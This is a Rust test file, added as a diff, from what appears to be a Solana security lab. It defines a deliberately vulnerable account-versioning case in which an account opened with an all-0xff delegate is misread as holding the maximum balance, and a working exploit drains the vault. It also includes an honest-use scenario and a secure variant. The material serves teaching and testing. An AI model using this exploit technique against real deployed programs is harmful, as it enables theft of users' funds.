@@ -0,0 +1,144 @@
+//! A v2 user account, read as v1 by the withdrawal: the delegate's first
+//! eight bytes count as its balance
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::to_vec;
+use lab_instructions::account_versioning::{migrate_ix, open_ix, withdraw_ix};
+use lab_svm::{Signer, Svm, LAMPORTS_PER_SOL};
+use solana_common::versioning::Versioned;
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{attacker, fixtures, victim, vulnerability, Harness, Version};
+
+/// an account opened with a delegate of 0xff bytes withdraws the whole
+/// vault
+#[vulnerability(
+    id = "SOL-010",
+    category = "AccountVersioning",
+    severity = "High",
+    difficulty = "Intermediate",
+    rejection = "insufficient funds for instruction",
+    prerequisite = "type_confusion",
+    honest_use = honest_use,
+    reference(
+        title = "Borsh specification",
+        url = "https://borsh.io/",
+    ),
+    reference(
+        title = "Solana documentation: accounts",
+        url = "https://solana.com/docs/core/accounts",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(
+            harness,
+            account_versioning::process_instruction,
+            account_versioning::UserAccountV2::LEN,
+        ),
+        // The secure layout leads with its version byte
+        Version::Secure => attack(
+            harness,
+            account_versioning_secure::process_instruction,
+            account_versioning_secure::UserAccountV2::LEN,
+        ),
+    }
+}
+
+/// What every user together has left in the vault
+const VAULTED: u64 = 5 * LAMPORTS_PER_SOL;
+
+fn attack(svm: &mut Svm, program: ProcessInstruction, len: usize) -> AnyResult<()> {
+    let program_id = deploy(svm, "account_versioning", program);
+    let attacker_key = fund(svm, &attacker());
+    let vault = vault(svm, &program_id, VAULTED);
+    // Empty, as create_account leaves an account it assigns to the program
+    let user_account = program_account(
+        svm,
+        fixtures::address("account_versioning/attacker_account"),
+        &program_id,
+        vec![0; len],
+        0,
+    );
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: vault,
+            amount: VAULTED,
+        },
+    )?;
+
+    // Read as v1, the delegate's first eight bytes are u64::MAX
+    let delegate = Pubkey::new_from_array([0xff; 32]);
+    let before = svm.lamports(&attacker_key);
+    svm.send(
+        &[
+            open_ix(program_id, attacker_key, user_account, delegate),
+            withdraw_ix(program_id, attacker_key, user_account, vault, VAULTED),
+        ],
+        &[&attacker()],
+    )?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= VAULTED, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// The vault PDA, holding `lamports` for the program's users
+fn vault(svm: &mut Svm, program_id: &Pubkey, lamports: u64) -> Pubkey {
+    let (vault, _bump) = account_versioning_secure::VAULT.find([], program_id);
+    program_account(svm, vault, program_id, Vec::new(), lamports)
+}
+
+/// `value` as a secure version stores it, behind its version byte
+fn versioned<T: Versioned>(value: &T) -> std::io::Result<Vec<u8>> {
+    Ok([vec![T::VERSION], to_vec(value)?].concat())
+}
+
+const BALANCE: u64 = LAMPORTS_PER_SOL;
+
+/// A user with an account from the first release withdraws all of it,
+/// then migrates the account to the second release's layout
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let victim_key = victim().pubkey();
+    let (program, legacy): (ProcessInstruction, Vec<u8>) = match harness.version() {
+        Version::Vulnerable => (
+            account_versioning::process_instruction,
+            to_vec(&account_versioning::UserAccountV1 {
+                owner: victim_key,
+                balance: BALANCE,
+            })?,
+        ),
+        Version::Secure => (
+            account_versioning_secure::process_instruction,
+            versioned(&account_versioning_secure::UserAccountV1 {
+                owner: victim_key,
+                balance: BALANCE,
+            })?,
+        ),
+    };
+    let program_id = deploy(harness, "account_versioning", program);
+    let vault = vault(harness, &program_id, BALANCE);
+    let user_account = program_account(
+        harness,
+        fixtures::address("account_versioning/user_account"),
+        &program_id,
+        legacy,
+        0,
+    );
+    fund(harness, &victim());
+
+    harness.send(
+        &[
+            withdraw_ix(program_id, victim_key, user_account, vault, BALANCE),
+            migrate_ix(program_id, victim_key, user_account),
+        ],
+        &[&victim()],
+    )?;
+    Ok(())
+}